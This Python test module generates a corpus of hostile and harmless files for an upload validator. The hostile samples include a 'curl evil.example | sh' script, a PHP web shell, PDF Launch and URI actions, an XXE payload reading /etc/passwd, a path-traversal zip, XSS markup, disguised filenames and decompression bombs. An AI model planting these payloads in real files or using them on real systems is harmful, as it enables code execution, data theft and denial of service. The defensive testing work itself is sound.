"""A corpus of hostile and honest files, generated: nothing is stored, and each run makes the same ones."""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.uploads.file_tables import HONEST, HOSTILE, JPEG, LIMIT, NOISE, PDF, PHOTO_LIMIT, PNG, WEBP
from tests.uploads.make_files import (
    archive,
    jpeg_of,
    locked,
    packed_objects,
    pdf,
    picture,
    png_chunk,
    png_of,
    repacked,
    stream,
    text_of,
    webp_of,
)
from tests.uploads.photos import phone_photo, with_iptc, with_xmp

TRUE = {"pdf": PDF, "png": PNG, "jpg": JPEG, "webp": WEBP}
Made = Iterator[tuple[str, bytes]]


@dataclass(frozen=True, slots=True)
class Sample:
    family: str
    name: str
    content: bytes


OTHERS = {
    "elf": b"\x7fELF\x02\x01\x01" + NOISE,
    "mz": b"MZ\x90\0" + NOISE,
    "sh": b"#!/bin/sh\ncurl evil.example | sh\n",
    "php": b"<?php system($_GET[0]); ?>",
    "js": b"fetch('//evil.example')",
    "gif": b"GIF89a" + NOISE,
    "bmp": b"BM" + NOISE,
    "tiff": b"II*\0" + NOISE,
    "mp4": b"\0\0\0\x18ftypmp42" + NOISE,
    "heic": b"\0\0\0\x18ftypheic" + NOISE,
    "psd": b"8BPS\0\x01" + NOISE,
    "ico": b"\0\0\x01\0\x01\0" + NOISE,
    "wmf": b"\xd7\xcd\xc6\x9a" + NOISE,
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(run) file\n",
    "rtf": b"{\\rtf1 {\\object\\objdata 0105}}",
    "mht": b"MIME-Version: 1.0\nContent-Type: multipart/related\n",
    "class": b"\xca\xfe\xba\xbe" + NOISE,
    "wasm": b"\0asm\x01\0\0\0" + NOISE,
    "lnk": b"L\0\0\0\x01\x14\x02\0" + NOISE,
    "text": b"just words",
}


def wrong_type() -> Made:
    for number, (kind, content) in enumerate(OTHERS.items()):
        ending = list(TRUE)[number % 4]
        yield f"{kind}.{ending}", content


def odd_names() -> Made:
    for ending, content in TRUE.items():
        for name in ("scan.v2", "scan.{}.exe", "scan\u202e{}.scr", "scan.{}\0.html", "scan.{}.js ", "a.{}x"):
            yield name.format(ending), content
    for ending, other in (("pdf", "png"), ("png", "jpg"), ("jpg", "webp"), ("webp", "pdf")):
        yield f"changed.{ending}", TRUE[other]


def polyglots() -> Made:
    for ending, content in TRUE.items():
        for inner in ("run.exe", "META-INF/MANIFEST.MF", "word/vbaProject.bin"):
            yield f"both.{ending}", content + archive(inner)
    for place, content in ((33, PNG), (20, JPEG)):
        note = b"Comment\0%PDF-1.7"
        part = png_chunk(b"tEXt", note) if content is PNG else b"\xff\xfe" + struct.pack(">H", len(note) + 2) + note
        yield f"both.{'png' if content is PNG else 'jpg'}", content[:place] + part + content[place:]
    yield "first.pdf", archive() + PDF
    yield "first.png", archive() + PNG
    yield "page.pdf", b"<html><script>1</script>" + PDF


def pixel_bombs() -> Made:
    for side in (7_000, 20_000, 65_000, 2**31 - 1):
        yield f"bomb{side}.png", png_of(side, side)
    for width, height in ((65_000, 65_000), (65_535, 1_000), (10_000, 9_000), (2_000, 65_000)):
        yield f"bomb{width}.jpg", jpeg_of(width, height)
    for kind in (b"VP8X", b"VP8L", b"VP8 "):
        for width, height in ((16_383, 16_383), (4_100, 4_000)):
            yield f"bomb{width}.webp", webp_of(kind, width, height)
    yield "full.png", png_of(9_000, 9_000, zlib.compress(bytes(27_000 * 9_000 + 9_000), 9))


def flat(kind: str, size: tuple[int, int], mode: str = "RGB", **options: object) -> bytes:
    """A large picture in a small file."""
    out = io.BytesIO()
    Image.new(mode, size, 7 if mode == "L" else (7, 90, 200, 40)[: len(mode)]).save(out, kind, **options)
    return out.getvalue()


def greedy_pictures() -> Made:
    """Below the limit of pixels, and yet a decoder would hold hundreds of megabytes."""
    yield "scans.jpg", flat("JPEG", (6_300, 6_300), quality=5, progressive=True, subsampling=0)
    yield "print.jpg", flat("JPEG", (6_000, 6_000), "CMYK", quality=5, progressive=True)
    yield "four.webp", flat("WEBP", (4_000, 3_900), quality=5, method=0)
    yield "lines.png", png_of(6_300, 6_300, zlib.compress(bytes(300_000_000), 9))
    yield "short.png", png_of(6_300, 6_300, zlib.compress(bytes(60_000_000), 9))


def stream_bombs() -> Made:
    flood = zlib.compress(bytes(90_000_000), 9)
    for kind, head in ((b"zTXt", b"C\0\0"), (b"iCCP", b"C\0\0"), (b"iTXt", b"C\0\x01\0\0\0")):
        yield f"{kind.decode()}.png", png_of(1, 1, b"", png_chunk(kind, head + flood))
    for size in (41_000_000, 90_000_000, 400_000_000):
        yield f"objects{size}.pdf", pdf(packed_objects(bytes(size)))
    yield "many.pdf", pdf(*[packed_objects(bytes(9_000_000))] * 6)
    yield "chunks.png", PNG[:33] + png_chunk(b"abCd", b"") * 40_000 + PNG[33:]
    yield "fill.jpg", JPEG[:2] + b"\xff" * 60_000 + JPEG[2:]
    yield "segments.jpg", JPEG[:2] + b"\xff\xe5\x00\x02" * 40_000 + JPEG[2:]
    yield "scans.jpg", JPEG[:-2] + JPEG[JPEG.index(b"\xff\xda") : -2] * 500 + b"\xff\xd9"
    yield "streams.pdf", pdf(*[packed_objects(b"4 0 << >>")] * 6_000)
    yield from greedy_pictures()
    yield "packed.pdf", gzip.compress(bytes(50_000_000))


ACTS = [
    b"<< /S /%JavaScript /JS (app.alert(1)) >>",
    b"<< /S /%Launch /F (cmd.exe) >>",
    b"<< /Type /Filespec /F (run.exe) /%EF << /F 3 0 R >> >>",
    b"<< /Type /Annot /Subtype /%Movie /Rect [0 0 9 9] >>",
    b"<< /Subtype /%RichMedia >>",
    b"<< /S /%SubmitForm /F (https://evil.example) >>",
    b"<< /S /%ImportData /F (a.fdf) >>",
    b"<< /S /%GoToE /T << /R /C >> >>",
]


def active_pdfs() -> Made:
    for number, act in enumerate(ACTS):
        plain = act.replace(b"%", b"")
        escaped = act[: act.index(b"%")] + b"#%02x" % act[act.index(b"%") + 1] + act[act.index(b"%") + 2 :]
        yield f"plain{number}.pdf", pdf(plain)
        yield f"escaped{number}.pdf", pdf(escaped)
        yield f"packed{number}.pdf", repacked(plain)
        yield f"both{number}.pdf", repacked(escaped)
    opening = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %b >>"
    yield "opens.pdf", pdf(catalog=opening % b"<< /S /URI /URI (https://evil.example) >>")
    yield "opens.pdf", pdf(b"<< /S /URI /URI (https://evil.example) >>", catalog=opening % b"4 0 R")
    yield "opens.pdf", repacked(b"<< /OpenAction << /S /GoToR /F (//evil/share) >> >>")
    yield "form.pdf", pdf(b"<< /AcroForm << /XFA [5 0 R] >> >>")


def locked_pdfs() -> Made:
    for revision in (2, 3, 4, 6):
        yield f"revision{revision}.pdf", locked(revision)
    for name in (b"/Encrypt", b"/#45ncrypt", b"/E#6ecrypt", b"/Encryp#74"):
        yield "locked.pdf", locked(6).replace(b"/Encrypt", name)


def cut_files() -> Made:
    for ending, content in TRUE.items():
        for tenth in (1, 3, 5, 7, 9):
            yield f"cut{tenth}.{ending}", content[: len(content) * tenth // 10]
    chance = random.Random(11)
    for ending, content in TRUE.items():
        spoilt = bytearray(content)
        for place in chance.sample(range(12, len(content)), len(content) // 4):
            spoilt[place] ^= 0xFF
        yield f"spoilt.{ending}", bytes(spoilt)


def empty_and_big() -> Made:
    for ending, content in TRUE.items():
        yield f"empty.{ending}", b""
        yield f"zero.{ending}", bytes(3000)
        yield f"huge.{ending}", content + bytes(PHOTO_LIMIT if ending == "jpg" else LIMIT)
        yield f"blank.{ending}", b" \r\n" * 20


def archives_and_offices() -> Made:
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as made:
        made.addfile(tarfile.TarInfo("run.sh"))
    kinds = {
        "docm": archive("word/vbaProject.bin"),
        "xlsm": archive("xl/vbaProject.bin"),
        "pptm": archive("ppt/vbaProject.bin"),
        "odt": archive("content.xml"),
        "jar": archive("META-INF/MANIFEST.MF"),
        "zip": archive("../../etc/passwd"),
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE,
        "rar": b"Rar!\x1a\x07\x01\0" + NOISE,
        "7z": b"7z\xbc\xaf\x27\x1c" + NOISE,
        "tar": tar.getvalue(),
        "gz": gzip.compress(PDF),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "html": b"<!doctype html><script>alert(1)</script>",
        "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    }
    deep = io.BytesIO()
    with zipfile.ZipFile(deep, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("zeros", bytes(60_000_000))
    kinds["zipbomb.zip"] = deep.getvalue()
    for number, (ending, content) in enumerate(kinds.items()):
        yield f"file.{ending}", content
        yield f"file.{list(TRUE)[number % 4]}", content


FAMILIES = (
    wrong_type,
    odd_names,
    polyglots,
    pixel_bombs,
    stream_bombs,
    active_pdfs,
    locked_pdfs,
    cut_files,
    empty_and_big,
    archives_and_offices,
)


def hostile() -> Iterator[Sample]:
    """Every hostile file, family by family, one at a time; then those of the table."""
    for family in FAMILIES:
        for name, content in family():
            yield Sample(family.__name__, name, content)
    for name, content, code in HOSTILE:
        yield Sample(f"table: {code}", name, content)


def makers() -> Made:
    """PDFs as several makers write them, and scans."""
    opening = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %b >>"
    yield "office.pdf", pdf(catalog=opening % b"[3 0 R /XYZ null null 0]")
    yield "tex.pdf", pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=opening % b"4 0 R")
    packed = packed_objects(b"9 0 << /S /GoTo /D [3 0 R /Fit] >>")
    yield "newer-tex.pdf", pdf(packed, catalog=opening % b"9 0 R")
    yield "bookmarks.pdf", pdf(b"<< /Type /Outlines /Count 0 >>", b"<< /S /GoTo /D (one) >>")
    yield "archive.pdf", pdf(stream(b"<?xpacket?><x:xmpmeta/>", b"/Type /Metadata /Subtype /XML"))
    yield "form.pdf", pdf(b"<< /FT /Tx /T (name) /AcroForm << /Fields [] >> >>")
    yield "mac.pdf", pdf(stream(zlib.compress(b"BT ET"), b"/Filter /FlateDecode"), version=b"1.3")
    yield "print.pdf", pdf(b"<< /Type /ExtGState /SMask /None >>", version=b"1.4")
    yield "fax.pdf", pdf(stream(NOISE, b"/Subtype /Image /Filter /CCITTFaxDecode"))
    yield "windows.pdf", PDF.replace(b"\n%%EOF\n", b"\r\n%%EOF\r\n")
    for pages, mode in ((1, "RGB"), (3, "L"), (2, "1")):
        out = io.BytesIO()
        first, *more = [Image.new(mode, (620, 877), 1) for _page in range(pages)]
        first.save(out, "PDF", save_all=True, append_images=more)
        yield f"scan{pages}.pdf", out.getvalue()


def woven() -> bytes:
    """An interlaced PNG of 5 by 3: seven passes, one of them empty."""
    sizes = [(1, 1), (1, 1), (2, 0), (1, 1), (3, 1), (2, 2), (5, 1)]
    lines = b"".join((b"\0" + bytes(columns * 3)) * rows for columns, rows in sizes if columns and rows)
    head = struct.pack(">IIBBBBB", 5, 3, 8, 2, 0, 0, 1)
    chunks = (png_chunk(b"IHDR", head), png_chunk(b"IDAT", zlib.compress(lines)), png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def photos() -> Made:
    """Photos of telephones and cameras, pictures of screens and scanners."""
    for turned in range(1, 9):
        yield f"IMG_{turned:04}.JPG", phone_photo(turned=turned)
    yield "edited.jpg", with_xmp(JPEG)
    yield "agency.jpg", with_iptc(JPEG)
    yield "two-in-one.jpg", phone_photo() + phone_photo(turned=6)
    yield "moving.jpg", phone_photo() + b"\0\0\0\x18ftypmp42" + NOISE
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        for mode in ("L", "RGB"):
            yield f"{mode}.{ending}", picture(kind, (200, 120), mode=mode)
    yield "woven.png", woven()
    yield "screen.png", picture("PNG", (390, 844), pnginfo=text_of(2000))
    yield "phone.webp", phone_photo("WEBP", turned=6)
    yield "phone.png", phone_photo("PNG", turned=8)


def large_ones() -> Made:
    """As large as may be."""
    yield "poster.png", flat("PNG", (6_300, 6_300))
    yield "clear.png", flat("PNG", (6_300, 6_300), "RGBA")
    yield "camera.jpg", flat("JPEG", (6_300, 6_300), quality=30)
    yield "messenger.jpg", flat("JPEG", (5_400, 5_400), quality=30, progressive=True, subsampling=2)
    yield "shop.webp", flat("WEBP", (2_500, 2_000), quality=30, method=0)


def honest() -> Iterator[Sample]:
    for family in (makers, photos, large_ones):
        for name, content in family():
            yield Sample(family.__name__, name, content)
    for name, content in HONEST:
        yield Sample("table", name, content)
